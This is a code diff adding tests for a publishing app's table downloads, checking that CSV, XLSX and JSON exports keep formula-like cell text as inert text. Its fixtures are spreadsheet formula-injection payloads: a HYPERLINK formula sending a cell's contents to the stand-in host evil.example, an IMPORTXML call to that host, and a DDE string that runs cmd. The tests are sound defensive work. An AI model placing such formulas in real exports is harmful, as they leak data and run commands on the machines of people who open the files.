@@ -403,6 +403,68 @@ def test_xlsx_download_does_not_run_formulas(client):
     assert sheet["A2"].data_type != "f"
 
 
+# Text that spreadsheets run as a formula, typed into cells and labels.
+HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")'
+IMPORTXML = '=IMPORTXML("https://evil.example/", "//a")'
+DDE = "=cmd|' /C calc'!A0"
+
+
+def formula_table():
+    return table(
+        "Formulas",
+        [DDE, "@SUM(1+1)", {"label": "Change", "kind": "number"}],
+        [
+            [HYPERLINK, "-1+1", "-3.5"],
+            [IMPORTXML, "+1", "12"],
+            ["@SUM(1+1)", "plain", "-40"],
+        ],
+        source_note="Src",
+    )
+
+
+@pytest.mark.django_db
+def test_csv_download_keeps_formula_like_text_as_text(client):
+    """Labels and text cells starting =, +, -, @ get an apostrophe; numbers do not."""
+    article = publish(formula_table())
+    content = download(client, article, 1, 1, "csv").content.decode("utf-8")
+    rows = list(csv.reader(io.StringIO(content)))
+    assert rows == [
+        [f"'{DDE}", "'@SUM(1+1)", "Change"],
+        [f"'{HYPERLINK}", "'-1+1", "-3.5"],
+        [f"'{IMPORTXML}", "'+1", "12"],
+        ["'@SUM(1+1)", "plain", "-40"],
+    ]
+    assert [float(row[2]) for row in rows[1:]] == [-3.5, 12, -40]
+
+
+@pytest.mark.django_db
+def test_xlsx_download_keeps_formula_like_text_intact_in_text_cells(client):
+    """Nothing is cut off: such text is a string cell, marked to stay text."""
+    article = publish(formula_table())
+    sheet = openpyxl.load_workbook(
+        io.BytesIO(download(client, article, 1, 1, "xlsx").content)
+    ).active
+    assert list(sheet.values) == [
+        (DDE, "@SUM(1+1)", "Change"),
+        (HYPERLINK, "-1+1", -3.5),
+        (IMPORTXML, "+1", 12),
+        ("@SUM(1+1)", "plain", -40),
+    ]
+    for row in sheet.iter_rows():
+        for cell in row:
+            assert cell.data_type in ("s", "n"), cell.coordinate
+            if isinstance(cell.value, str):
+                assert cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@"))
+    assert sheet["C2"].data_type == "n" and sheet["A1"].font.bold
+
+
+@pytest.mark.django_db
+def test_json_download_keeps_formula_like_text_exact(client):
+    article = publish(formula_table())
+    data = json.loads(download(client, article, 1, 1, "json").content)
+    assert data[0] == {DDE: HYPERLINK, "@SUM(1+1)": "-1+1", "Change": -3.5}
+
+
 @pytest.mark.django_db
 def test_json_download_is_one_object_per_row(client):
     article = publish(typed_table())
